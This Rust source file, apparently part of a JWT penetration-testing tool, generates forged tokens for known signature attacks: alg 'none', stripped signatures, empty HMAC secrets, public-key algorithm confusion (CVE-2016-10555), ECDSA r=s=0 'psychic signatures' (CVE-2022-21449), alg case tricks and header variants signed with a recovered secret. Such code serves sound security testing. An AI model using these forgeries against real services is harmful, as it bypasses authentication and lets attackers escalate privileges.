//! The attacks on the signature itself: tamper, none, strip, null-key, key confusion,
//! psychic signatures, alg-case, and what a recovered secret gives (resign, typ, crit, b64).

use pkcs8::LineEnding;
use serde_json::{Map, Value};

use super::jwk_text::{given_objects, jwk_texts};
use super::{hmac_token, seg, Base, Inputs};
use crate::alg::{Alg, Curve, Family, Hash};
use crate::keys::{Jwk, Key, RsaKey};
use crate::{b64, Error, Result};

const HMAC_HASHES: [Hash; 3] = [Hash::Sha256, Hash::Sha384, Hash::Sha512];

/// The original signature kept over changed claims.
pub(super) fn tamper(b: &Base, push: &mut impl FnMut(String, String)) {
    let token = format!("{}.{}.{}", seg(&b.header), seg(&b.tampered), b.sig_seg);
    push("claims escalated, original signature".into(), token);
}

/// `alg: none` in four spellings, with an empty and with the original signature.
pub(super) fn none(b: &Base, push: &mut impl FnMut(String, String)) {
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let h = seg(&b.header_with_alg(spelling));
        push(
            format!("alg {spelling}, empty signature"),
            format!("{h}.{}.", b.payload_seg),
        );
        push(
            format!("alg {spelling}, original signature"),
            format!("{h}.{}.{}", b.payload_seg, b.sig_seg),
        );
    }
}

/// The token exactly as captured, minus its signature.
pub(super) fn strip(b: &Base, push: &mut impl FnMut(String, String)) {
    push(
        "signature removed".into(),
        format!("{}.{}.", seg(&b.header), b.payload_seg),
    );
}

/// HS256/384/512 under an empty secret.
pub(super) fn null_key(b: &Base, push: &mut impl FnMut(String, String)) {
    for h in HMAC_HASHES {
        let alg = h.hmac_alg().name();
        let t = hmac_token(&b.header_with_alg(alg), &b.payload_seg, h, b"");
        push(format!("{alg}, empty secret"), t);
    }
}

/// Every byte string a confused server might use as the HMAC secret for `key`, named: the
/// file's bytes, PEM and DER forms, and the likely JWK texts (`jwk_text`). The one place
/// confusion's secrets are made; `probe` sends what `confusion` forges from them.
fn serializations(raw: &[u8], keys: &[Jwk]) -> Result<Vec<(String, Vec<u8>)>> {
    let mut out: Vec<(String, Vec<u8>)> = vec![("as given".into(), raw.to_vec())];
    let given = given_objects(raw);
    let trimmed = raw.trim_ascii_end();
    if trimmed.len() != raw.len() {
        out.push(("as given, no trailing newline".into(), trimmed.to_vec()));
    } else {
        let mut nl = raw.to_vec();
        nl.push(b'\n');
        out.push(("as given, trailing newline".into(), nl));
    }
    for k in keys.iter().filter(|k| !matches!(k.key, Key::Oct(_))) {
        let public = k.to_public()?;
        let who = match &public.kid {
            Some(kid) if keys.len() > 1 => format!(" kid={kid}"),
            _ => String::new(),
        };
        let spki_pem = public.to_pem(false)?.to_string();
        let (_, spki_der) = pem_rfc7468::decode_vec(spki_pem.as_bytes())
            .map_err(|e| Error::input(format!("cannot re-encode the public key: {e}")))?;
        out.push((format!("SPKI PEM{who}"), spki_pem.clone().into_bytes()));
        out.push((
            format!("SPKI PEM without newline{who}"),
            spki_pem.trim_end().as_bytes().to_vec(),
        ));
        out.push((format!("SPKI DER{who}"), spki_der));
        if let Key::Rsa(RsaKey::Public(p)) = &public.key {
            use pkcs1::EncodeRsaPublicKey;
            let pem = p
                .to_pkcs1_pem(LineEnding::LF)
                .map_err(|e| Error::input(format!("cannot encode PKCS#1: {e}")))?;
            let der = p
                .to_pkcs1_der()
                .map_err(|e| Error::input(format!("cannot encode PKCS#1: {e}")))?;
            out.push((format!("PKCS#1 PEM{who}"), pem.into_bytes()));
            out.push((format!("PKCS#1 DER{who}"), der.as_bytes().to_vec()));
        }
        out.extend(jwk_texts(&public, &given, &who));
    }
    // A PEM given as SPKI is the same bytes twice: send each secret once.
    let mut seen = std::collections::HashSet::new();
    out.retain(|(_, bytes)| seen.insert(bytes.clone()));
    Ok(out)
}

/// RS/PS/ES → HS* with the public key's bytes as the secret (CVE-2016-10555).
pub(super) fn confusion(
    b: &Base,
    inputs: &Inputs,
    push: &mut impl FnMut(String, String),
) -> Result<()> {
    let Some(pk) = &inputs.public_key else {
        return Ok(());
    };
    for (name, secret) in serializations(&pk.raw, &pk.keys)? {
        for h in HMAC_HASHES {
            let alg = h.hmac_alg().name();
            let t = hmac_token(&b.header_with_alg(alg), &b.payload_seg, h, &secret);
            push(format!("{alg}, public key {name}"), t);
        }
    }
    Ok(())
}

/// ECDSA with r = s = 0 (CVE-2022-21449): for the token's ES alg, or all three.
pub(super) fn psychic(b: &Base, inputs: &Inputs, push: &mut impl FnMut(String, String)) {
    let curve_of = |k: &Jwk| match &k.key {
        Key::Ec(e) => Some(e.curve),
        _ => None,
    };
    let mut algs: Vec<Alg> = match b.alg.map(Alg::family) {
        Some(Family::Ecdsa(_)) => b.alg.into_iter().collect(),
        _ => Vec::new(),
    };
    let key_curves = inputs
        .public_key
        .iter()
        .flat_map(|p| p.keys.iter().filter_map(curve_of));
    for c in key_curves {
        let a = match c {
            Curve::P384 => Alg::ES384,
            Curve::P521 => Alg::ES512,
            _ => Alg::ES256,
        };
        if !algs.contains(&a) {
            algs.push(a);
        }
    }
    if algs.is_empty() {
        algs = vec![Alg::ES256, Alg::ES384, Alg::ES512];
    }
    for alg in algs {
        let Family::Ecdsa(curve) = alg.family() else {
            continue;
        };
        let h = seg(&b.header_with_alg(alg.name()));
        let raw = vec![0u8; 2 * curve.field_len()];
        push(
            format!("{alg}, r = s = 0 (raw)"),
            format!("{h}.{}.{}", b.payload_seg, b64::encode(&raw)),
        );
        // SEQUENCE { INTEGER 0, INTEGER 0 }: what a DER-expecting verifier parses.
        let der = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];
        push(
            format!("{alg}, r = s = 0 (DER)"),
            format!("{h}.{}.{}", b.payload_seg, b64::encode(&der)),
        );
    }
}

/// The HMAC alg in other letter cases, signed with each HMAC key the attacker holds.
pub(super) fn alg_case(
    b: &Base,
    inputs: &Inputs,
    push: &mut impl FnMut(String, String),
) -> Result<()> {
    let hash = b.hmac_hash();
    let name = hash.hmac_alg().name();
    let mut keys: Vec<(&str, Vec<u8>)> = Vec::new();
    if let Some(pk) = &inputs.public_key {
        keys.push(("the public key as given", pk.raw.clone()));
    }
    if let Some(s) = &inputs.secret {
        keys.push(("the secret", s.expose().to_vec()));
    }
    let cases = [
        name.to_ascii_lowercase(),
        format!("H{}", &name[1..].to_ascii_lowercase()),
    ];
    for (what, key) in &keys {
        for alg in &cases {
            let t = hmac_token(&b.header_with_alg(alg), &b.payload_seg, hash, key);
            push(format!("alg {alg}, signed with {what}"), t);
        }
    }
    Ok(())
}

/// resign / typ / crit / b64: tokens properly signed with the recovered secret. Returns a
/// note when the variant cannot be made for this token.
pub(super) fn with_secret(
    attack: &str,
    b: &Base,
    secret: &[u8],
    push: &mut impl FnMut(String, String),
) -> Option<String> {
    let hash = b.hmac_hash();
    let header = b.header_with_alg(hash.hmac_alg().name());
    let sign = |h: &Map<String, Value>, payload_seg: &str| hmac_token(h, payload_seg, hash, secret);
    match attack {
        "resign" => push(
            "tampered claims, signed with the secret".into(),
            sign(&header, &seg(&b.tampered)),
        ),
        "typ" => {
            let mut gone = header.clone();
            gone.remove("typ");
            push("typ removed".into(), sign(&gone, &b.payload_seg));
            for typ in ["at+jwt", "JWE", "none"] {
                let mut h = header.clone();
                h.insert("typ".into(), Value::String(typ.into()));
                push(format!("typ {typ}"), sign(&h, &b.payload_seg));
            }
        }
        "crit" => {
            let mut h = header.clone();
            h.insert("crit".into(), serde_json::json!(["jot-unknown"]));
            h.insert("jot-unknown".into(), Value::Bool(true));
            push(
                "crit names an unknown extension".into(),
                sign(&h, &b.payload_seg),
            );
        }
        "b64" => {
            // RFC 7797 §5.2: an unencoded payload in the compact form may not contain '.'.
            if b.payload_raw.contains(&b'.') || std::str::from_utf8(&b.payload_raw).is_err() {
                return Some(
                    "b64: the payload contains '.' or is not UTF-8; no unencoded form".into(),
                );
            }
            let mut h = header.clone();
            h.insert("b64".into(), Value::Bool(false));
            h.insert("crit".into(), serde_json::json!(["b64"]));
            let payload = String::from_utf8_lossy(&b.payload_raw).into_owned();
            let input = format!("{}.{payload}", seg(&h));
            let mac = hash.hmac(secret, input.as_bytes());
            push(
                "unencoded payload (b64 false)".into(),
                format!("{input}.{}", b64::encode(&mac)),
            );
        }
        _ => {}
    }
    None
}
